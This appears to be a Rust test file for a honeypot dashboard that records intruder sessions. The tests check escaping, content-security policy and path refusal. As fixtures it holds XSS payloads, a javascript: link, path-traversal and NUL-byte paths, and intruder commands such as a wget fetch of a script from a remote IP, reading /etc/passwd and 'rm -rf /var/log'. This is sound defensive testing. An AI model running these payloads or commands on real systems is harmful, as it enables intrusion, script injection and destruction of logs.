//! Sessions of intruders, over HTTP and in a real browser.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test may")]

mod util;

use std::path::PathBuf;

use events::{Event, EventId, FlowTuple};
use fantoccini::Locator;
use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};
use util::browser::Browser;
use util::intruder::{self, ID, SAMPLE};
use util::{House, PASSWORD, eventually, path};

const HOSTILE: &str = "<script>window.hacked=1</script><img src=x onerror=\"window.hacked=2\">";

fn flow(source: &str, port: u16) -> FlowTuple {
    FlowTuple {
        flow_id: 1,
        src_ip: source.parse().unwrap(),
        src_port: port,
        dest_ip: "10.77.0.2".parse().unwrap(),
        dest_port: 22,
        proto: "TCP".into(),
        community_id: None,
    }
}

fn event(id: EventId, time: Timestamp) -> Event {
    let mut event = Event::new(id, time).domain("ssh-server", Some(1)).flow(flow("198.51.100.3", 50816));
    event.timestamp = time;
    event
}

fn opened(session: &Value) -> Timestamp {
    session["opened"].as_str().unwrap().parse().unwrap()
}

#[test]
fn the_list_says_what_each_session_is() {
    let house = House::new();
    assert_eq!(house.get("/api/sessions").json()["sessions"], json!([]));
    let session = intruder::session(60);
    intruder::write_all(&house, &session);
    let mut other = session.clone();
    other["domain"] = json!("web-server");
    other["src_ip"] = json!("2001:db8::9");
    other["closed"] = json!(Timestamp::now().to_string());
    other["opened"] = json!((opened(&session) - SignedDuration::from_secs(600)).to_string());
    other["logins"] = json!(null);
    intruder::write_object(&house, "65a1b2c200000001", &other);
    house.tell([
        event(EventId::Alert, opened(&session) + SignedDuration::from_secs(1)),
        event(EventId::Alert, opened(&session) - SignedDuration::from_secs(60)),
    ]);
    let rows = eventually("the alert", || {
        let rows = house.get("/api/sessions").json();
        (rows["sessions"][0]["alerts"] == 1).then_some(rows)
    });
    let [first, second] = rows["sessions"].as_array().unwrap().as_slice() else { panic!("{rows}") };
    assert_eq!((&first["id"], &first["live"], &first["user"]), (&json!(ID), &json!(true), &json!("admin")));
    assert_eq!(
        (&first["commands"], &first["samples"], &first["logins_failed"]),
        (&json!(10), &json!(1), &json!(1))
    );
    assert_eq!(
        (&second["live"], &second["user"], &second["alerts"]),
        (&json!(false), &json!(null), &json!(0))
    );
    assert_eq!(rows["next_before"], json!(null));
    for (query, ids) in [
        ("domain=web-server", json!(["65a1b2c200000001"])),
        ("address=198.51.100.3", json!([ID])),
        ("address=2001:DB8:0::9", json!(["65a1b2c200000001"])),
        ("domain=nobody", json!([])),
        ("limit=1", json!([ID])),
        (&format!("before={ID}"), json!(["65a1b2c200000001"])),
    ] {
        let page = house.get(&format!("/api/sessions?{query}")).json();
        let found: Vec<&Value> = page["sessions"].as_array().unwrap().iter().map(|row| &row["id"]).collect();
        assert_eq!(json!(found), ids, "{query}");
    }
}

#[test]
fn a_session_is_told_once_for_each_of_its_states() {
    let house = House::new();
    let mut session = intruder::session(60);
    intruder::write_object(&house, ID, &session);
    let target = format!("/api/sessions/{ID}");
    let answer = house.get(&target);
    assert_eq!((answer.status, &answer.json()["logins"][1]["password"]), (200, &json!("admin123")));
    let tag = answer.header("etag").unwrap().to_owned();
    let bearer = format!("Bearer {}", util::TOKEN);
    let again = || house.ask("GET", &target, &[("Authorization", &bearer), ("If-None-Match", &tag)], "");
    assert_eq!(again().status, 304);
    session["closed"] = json!(Timestamp::now().to_string());
    intruder::write_object(&house, ID, &session);
    assert_eq!((again().status, &again().json()["live"]), (200, &json!(false)));
    assert_eq!(house.get("/api/sessions/65a1b2c300010002").status, 404);
}

#[test]
fn hostile_text_comes_as_it_is_and_never_as_a_page() {
    let house = House::new();
    let mut session = intruder::session(60);
    session["processes"][0]["argv"] = json!([HOSTILE]);
    session["domain"] = json!(HOSTILE);
    intruder::write_object(&house, ID, &session);
    let answer = house.get(&format!("/api/sessions/{ID}"));
    assert_eq!(answer.header("content-type"), Some("application/json"));
    assert_eq!(answer.json()["processes"][0]["argv"][0], json!(HOSTILE));
    let shell = house.get(&format!("/sessions/{ID}"));
    assert!(shell.status == 200 && !shell.text().contains("hacked"));
}

#[test]
fn a_damaged_file_is_one_sentence() {
    let house = House::new();
    intruder::write(&path(&house, "sessions"), &format!("{ID}.json"), b"{\"opened\":\"<script>\"}");
    let answer = house.get(&format!("/api/sessions/{ID}"));
    let sentence = format!("the object of session {ID} is damaged");
    assert_eq!((answer.status, answer.json()), (500, json!({ "error": sentence })));
    assert_eq!(house.get("/api/sessions").json()["sessions"][0]["error"], json!(sentence));
    let large = vec![b' '; (16 << 20) + 1];
    intruder::write(&path(&house, "sessions"), &format!("{ID}.json"), &large);
    let answer = house.get(&format!("/api/sessions/{ID}"));
    assert_eq!(answer.json()["error"], json!(format!("the object of session {ID} is larger than 16 MiB")));
}

#[test]
fn a_cast_is_served_from_a_byte_on_and_a_sample_as_an_attachment() {
    let house = House::new();
    intruder::write_all(&house, &intruder::session(60));
    let cast = format!("/api/sessions/{ID}/tty/1");
    let whole = house.get(&cast);
    assert_eq!((whole.status, whole.header("content-type")), (200, Some("application/x-asciicast")));
    assert_eq!(whole.body, std::fs::read(path(&house, "tty").join(format!("{ID}-1.cast"))).unwrap());
    assert_eq!(house.get(&format!("{cast}?from=20")).body, whole.body[20..]);
    assert_eq!(house.get(&format!("{cast}?from=999999999")).body, b"");
    assert_eq!(house.get(&format!("/api/sessions/{ID}/tty/2")).status, 404);
    let name = intruder::sha256();
    let sample = house.get(&format!("/api/samples/{name}"));
    assert_eq!((sample.status, sample.body.as_slice()), (200, SAMPLE));
    assert_eq!(sample.header("content-type"), Some("application/octet-stream"));
    assert_eq!(sample.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(
        sample.header("content-disposition"),
        Some(format!("attachment; filename=\"{name}\"").as_str())
    );
}

#[test]
fn names_that_are_none_are_refused_and_open_nothing() {
    let house = House::new();
    let long = "x".repeat(5000);
    let reads = [
        ("/api/sessions?limit=0".into(), 400),
        ("/api/sessions?limit=201".into(), 400),
        ("/api/sessions?address=x".into(), 400),
        ("/api/sessions?before=x".into(), 400),
        ("/api/sessions?colour=red".into(), 400),
        (format!("/api/sessions?domain={long}"), 400),
        ("/sessions/x".into(), 404),
        ("/sessions/..%2f..%2fetc".into(), 404),
        ("/api/sessions/65A1B2C300010001".into(), 404),
        ("/api/sessions/..%2fstore%2fevents".into(), 404),
        ("/api/sessions/%00".into(), 404),
        ("/api/sessions/%ff".into(), 404),
        (format!("/api/sessions/{long}"), 404),
        ("/api/sessions/65a1b2c300010001/tty/01".into(), 404),
        ("/api/sessions/65a1b2c300010001/tty/-1".into(), 404),
        ("/api/sessions/65a1b2c300010001/tty/..%2f1".into(), 404),
        ("/api/sessions/..%2ftty%2f65a1b2c300010001/tty/1".into(), 404),
        ("/api/sessions/65a1b2c300010001/tty/1?from=-1".into(), 400),
        ("/api/samples/..%2f..%2fetc%2fpasswd".into(), 404),
        ("/api/samples/%2fetc%2fpasswd".into(), 404),
        (format!("/api/samples/{}", "A".repeat(64)), 404),
        (format!("/api/samples/{}", "0".repeat(64)), 404),
    ];
    for (target, status) in reads {
        let answer = house.get(&target);
        let shown: String = target.chars().take(60).collect();
        assert_eq!(answer.status, status, "{shown}: {}", answer.text());
    }
}

#[test]
fn no_link_is_followed() {
    let house = House::new();
    let secret = path(&house, "secret");
    std::fs::write(&secret, "{\"domain\":\"secret\"}").unwrap();
    let sha256 = intruder::sha256();
    for (folder, name, target) in [
        ("sessions", format!("{ID}.json"), format!("/api/sessions/{ID}")),
        ("tty", format!("{ID}-1.cast"), format!("/api/sessions/{ID}/tty/1")),
        ("samples", sha256.clone(), format!("/api/samples/{sha256}")),
    ] {
        std::fs::create_dir_all(path(&house, folder)).unwrap();
        std::os::unix::fs::symlink(&secret, path(&house, folder).join(name)).unwrap();
        assert_eq!(house.get(&target).status, 404, "{target}");
    }
}

#[test]
fn only_the_page_with_a_player_may_compile_webassembly() {
    let house = House::new();
    let policy = |target: &str| house.get(target).header("content-security-policy").unwrap().to_owned();
    assert!(policy(&format!("/sessions/{ID}")).contains("script-src 'self' 'wasm-unsafe-eval';"));
    for other in
        ["/sessions", "/events", "/sessions/x", "/login", "/assets/asciinema-player.min.js", "/api/sessions"]
    {
        assert!(!policy(other).contains("wasm"), "{other}");
    }
}

async fn at_session(house: &House) -> Browser {
    let browser = Browser::start(1400, 900, None).await;
    browser.log_in(house.address, PASSWORD).await;
    browser.wait("return location.pathname === '/'").await;
    browser.go(house.address, &format!("/sessions/{ID}")).await;
    browser
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_is_played_and_a_click_on_the_timeline_seeks() {
    let house = House::new();
    let mut session = intruder::session(60);
    session["closed"] = json!((opened(&session) + SignedDuration::from_secs(40)).to_string());
    intruder::write_all(&house, &session);
    house.tell([
        event(EventId::Alert, opened(&session) + SignedDuration::from_secs(30))
            .with("signature", "Script fetched"),
        event(EventId::FlowEnd, opened(&session) + SignedDuration::from_secs(40)),
    ]);
    let browser = at_session(&house).await;
    let screen = "(document.querySelector('.ap-player')?.innerText ?? '')";
    browser.wait("return document.querySelectorAll('.timeline li').length > 0").await;
    browser.wait("return document.querySelector('.timeline').innerText.includes('Script fetched')").await;
    let timeline = browser.script("return document.querySelector('.timeline').innerText").await;
    for wanted in [
        "admin123",
        "cat /etc/passwd | grep -v nologin",
        "wget http://203.0.113.50/x.sh",
        "sh -c 'while :; do sleep 60; done'",
        "/tmp/x.sh",
        "203.0.113.50",
        "198.51.100.3:50816 → 10.77.0.2:22",
    ] {
        assert!(timeline.as_str().unwrap().contains(wanted), "{wanted}: {timeline}");
    }
    // At its start the recording does not show what came later; a click on the last line does.
    assert_eq!(browser.script(&format!("return {screen}.includes('saved')")).await, json!(false));
    let click =
        "[...document.querySelectorAll('.timeline li[data-kind=sample]')].at(-1).click(); return true";
    browser.script(click).await;
    browser
        .wait(&format!("return {screen}.includes(\"'x.sh' saved\") && {screen}.includes('grep -v nologin')"))
        .await;
    browser.wait("return document.querySelector('.timeline li[aria-current]') !== null").await;
    browser.script("document.querySelector('.timeline li[data-kind=typed]').click(); return true").await;
    browser.wait(&format!("return {screen}.includes('uname -a') && !{screen}.includes('saved')")).await;

    let tree = browser.script("return [...document.querySelectorAll('.process')].map((row) => [row.querySelector('.pid').innerText, row.querySelector('.state').innerText, row.style.getPropertyValue('--depth')])").await;
    assert_eq!((&tree[0], &tree[1]), (&json!(["220", "before", "0"]), &json!(["221", "runs", "1"])));
    assert!(tree.as_array().unwrap().contains(&json!(["232", "ran", "3"])), "{tree}");
    let link =
        browser.script("return document.querySelector('.sample .download').getAttribute('href')").await;
    assert_eq!(house.get(link.as_str().unwrap()).body, SAMPLE);
    let links = browser
        .script(
            "return [...document.querySelectorAll('.session-facts a')].map((a) => a.getAttribute('href'))",
        )
        .await;
    for wanted in ["/evidence?domain=ssh-server", "/?domain=ssh-server", "/sessions?address=198.51.100.3"] {
        assert!(links.as_array().unwrap().contains(&json!(wanted)), "{links}");
    }
    browser.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_that_lives_is_followed() {
    let house = House::new();
    let mut session = intruder::session(60);
    intruder::write_all(&house, &session);
    let browser = at_session(&house).await;
    let shows = |text: &str| {
        format!("return document.querySelector('.ap-player')?.innerText.includes('{text}') ?? false")
    };
    browser.wait(&shows("saved")).await;
    browser.script("window.untouched = true; return true").await;
    intruder::append_cast(&house, &format!("{ID}-1.cast"), &[json!([50.0, "o", "\r\nrm -rf /var/log\r\n"])]);
    let time = Timestamp::now().to_string();
    session["inputs"]
        .as_array_mut()
        .unwrap()
        .push(json!({ "time": time, "tty": 1, "text": "rm -rf /var/log" }));
    intruder::write_object(&house, ID, &session);
    browser.wait(&shows("rm -rf /var/log")).await;
    browser.wait("return document.querySelector('.timeline').innerText.includes('rm -rf /var/log')").await;
    session["closed"] = json!(Timestamp::now().to_string());
    intruder::write_object(&house, ID, &session);
    browser.wait("return document.querySelector('h1').innerText.includes('closed')").await;
    browser.wait("return document.getElementById('follow').hidden").await;
    browser.wait(&shows("rm -rf /var/log")).await;
    assert_eq!(browser.script("return window.untouched").await, json!(true));
    browser.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_sessions_are_text_and_nothing_else() {
    let house = House::new();
    let now = Timestamp::now();
    let (time, later) = (now.to_string(), (now + SignedDuration::from_secs(9)).to_string());
    let text = format!("{HOSTILE}\u{202e}\u{1b}[2J");
    let hostile = json!({
        "domain": text, "service": text, "pid": 1, "opened": time, "closed": time, "src_ip": text, "src_port": -1,
        "logins": [{ "time": time, "user": text, "password": text, "method": text, "success": true }],
        "inputs": [{ "time": later, "tty": 1, "text": text }],
        // Parents in a ring.
        "processes": [{ "pid": 2, "ppid": 3, "uid": 0, "exe": text, "argv": [text, text], "cwd": text, "began": time },
                      { "pid": 3, "ppid": 2, "uid": 0, "exe": text, "argv": [text], "cwd": text, "began": time },
                      { "pid": 4, "ppid": 4, "argv": [text], "began": time }],
        "files": [{ "time": time, "pid": 2, "exe": text, "what": text, "path": text, "to": text }],
        "connections": [{ "time": time, "pid": 2, "exe": text, "address": text, "port": 80, "result": -1 }],
        "samples": [{ "time": time, "sha256": text, "bytes": 1, "path": text, "how": text }],
        "tty": [{ "name": "../../etc/passwd" }, { "name": text }],
    });
    intruder::write_object(&house, ID, &hostile);
    let lines = [
        json!({ "version": 2, "width": 1_000_000_000, "height": -5, "title": text, "theme": { "fg": text, "bg": text, "palette": text } }),
        json!([0.1, "o", HOSTILE]),
        json!([0.2, "r", "99999x99999"]),
        json!([0.3, "r", text]),
        json!(["x", "o", text]),
        json!([0.4, text, text]),
        json!([0.5, "i", text]),
        json!([0.6, "o", "\u{1b}]8;;javascript:window.hacked=3\u{7}link\u{1b}]8;;\u{7} the end"]),
    ];
    intruder::append_cast(&house, &format!("{ID}-1.cast"), &lines);
    let mut named = event(EventId::Alert, Timestamp::now()).with("signature", text.as_str());
    named.session = Some(text.clone());
    let mut ours = event(EventId::Alert, Timestamp::now()).with("signature", "ours");
    ours.session = Some(ID.into());
    house.tell([named, ours]);
    let browser = at_session(&house).await;
    browser.wait("return document.querySelectorAll('.process').length === 4").await;
    browser.script("document.querySelector('.timeline li[data-kind=typed]').click(); return true").await;
    browser.wait("return (document.querySelector('.ap-player')?.innerText ?? '').includes('<script>window.hacked=1')").await;
    let nothing = "return document.querySelectorAll('main img, main script, body > script, main a[href^=javascript]').length";
    for page in [format!("/sessions/{ID}"), "/sessions".into(), "/alerts".into(), "/events".into()] {
        browser.go(house.address, &page).await;
        browser
            .wait("return document.body.innerText.includes('<img src=x onerror=\"window.hacked=2\">')")
            .await;
        assert_eq!(browser.script(nothing).await, json!(0), "{page}");
        assert_eq!(browser.script("return window.hacked ?? null").await, json!(null), "{page}");
        if !page.starts_with("/sessions") {
            let links =
                "return [...document.querySelectorAll('.to-session')].map((a) => a.getAttribute('href'))";
            assert_eq!(browser.script(links).await, json!([format!("/sessions/{ID}")]), "{page}");
        }
    }
    // WebAssembly may be compiled on the session's page, a string still may not become a script.
    browser.go(house.address, &format!("/sessions/{ID}")).await;
    let inline = "const s = document.createElement('script'); s.textContent = 'window.hacked = 5'; document.body.append(s); \
                  setTimeout('window.hacked = 4', 0); setTimeout(() => { window.tried = true }, 50); return true";
    browser.script(inline).await;
    browser.wait("return window.tried ?? false").await;
    assert_eq!(browser.script("return window.hacked ?? null").await, json!(null));
    browser.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_list_leads_to_a_session_and_shows_a_new_one_by_itself() {
    let house = House::new();
    let browser = Browser::start(1400, 900, None).await;
    browser.log_in(house.address, PASSWORD).await;
    browser.wait("return location.pathname === '/'").await;
    browser.go(house.address, "/sessions").await;
    browser.wait("return document.querySelector('.empty:not([hidden])')?.innerText.startsWith('Nobody has come yet.') ?? false").await;
    intruder::write_all(&house, &intruder::session(60));
    browser.wait("return document.querySelector('[data-session] .live-now') !== null").await;
    browser.client.find(Locator::Css("[data-session] td.when a")).await.unwrap().click().await.unwrap();
    browser.wait(&format!("return location.pathname === '/sessions/{ID}'")).await;
    browser.wait("return document.querySelector('h1').innerText.includes('live')").await;
    browser.end().await;
}

/// Writes a picture of each page into the folder that DASHBOARD_PICTURES names, and nothing where it names none.
#[tokio::test(flavor = "multi_thread")]
async fn both_pages_fit_a_desk_and_a_telephone() {
    let house = House::new();
    let session = intruder::session(600);
    intruder::write_all(&house, &session);
    for n in 0..30_i64 {
        let mut other = intruder::session(900 + n * 731);
        other["domain"] = json!(if n % 3 == 0 { "ssh-server" } else { "web-server" });
        other["src_ip"] = json!(format!("203.0.113.{}", n % 7));
        other["closed"] = json!((opened(&other) + SignedDuration::from_secs(n * 17 % 400)).to_string());
        let kept = n % 4 == 0;
        if !kept {
            other["samples"] = json!([]);
            other["logins"].as_array_mut().unwrap().truncate(1);
            other["processes"].as_array_mut().unwrap().truncate(1);
        }
        intruder::write_object(&house, &format!("65a1b2{:02x}00010001", 0xc0 - n), &other);
    }
    intruder::write(&path(&house, "sessions"), "65a1b2b000010009.json", b"{");
    house.tell([
        event(EventId::RelayAccepted, opened(&session))
            .with("client_ip", "192.0.2.77")
            .with("client_port", 40123),
        event(EventId::Alert, opened(&session) + SignedDuration::from_secs(29))
            .with("signature", "POLICY script fetched by wget")
            .with("category", "trojan-activity")
            .with("action", "alert"),
        event(EventId::ContainmentVerdict, opened(&session) + SignedDuration::from_secs(30))
            .with("verdict", "refused")
            .with("reason", "not a reply"),
    ]);
    for (name, width, dark) in [("desk", 1400, None), ("desk-dark", 1400, Some(())), ("telephone", 420, None)]
    {
        let browser = Browser::start(width, 900, dark).await;
        browser.log_in(house.address, PASSWORD).await;
        browser.wait("return location.pathname === '/'").await;
        browser.go(house.address, "/sessions").await;
        browser.wait("return document.querySelectorAll('[data-session]').length === 32").await;
        picture(&browser, &format!("sessions-{name}")).await;
        fits(&browser, name).await;
        browser.go(house.address, &format!("/sessions/{ID}")).await;
        browser
            .wait("return document.querySelector('.timeline').innerText.includes('script fetched by wget')")
            .await;
        browser
            .wait("return (document.querySelector('.ap-player')?.innerText ?? '').includes('saved')")
            .await;
        picture(&browser, &format!("session-live-{name}")).await;
        browser
            .script("document.querySelectorAll('.timeline li[data-kind=typed]')[1].click(); return true")
            .await;
        browser
            .wait("return (document.querySelector('.ap-player')?.innerText ?? '').includes('uname')")
            .await;
        picture(&browser, &format!("session-{name}")).await;
        browser.script("scrollTo(0, document.body.scrollHeight); return true").await;
        picture(&browser, &format!("session-end-{name}")).await;
        fits(&browser, name).await;
        browser.end().await;
    }
}

async fn fits(browser: &Browser, name: &str) {
    let overflow = "return document.documentElement.scrollWidth > document.documentElement.clientWidth";
    assert_eq!(browser.script(overflow).await, json!(false), "wider than a {name}");
}

async fn picture(browser: &Browser, name: &str) {
    if let Some(folder) = std::env::var_os("DASHBOARD_PICTURES") {
        tokio::time::sleep(std::time::Duration::from_millis(700)).await;
        browser.picture(&PathBuf::from(folder).join(format!("{name}.png"))).await;
    }
}
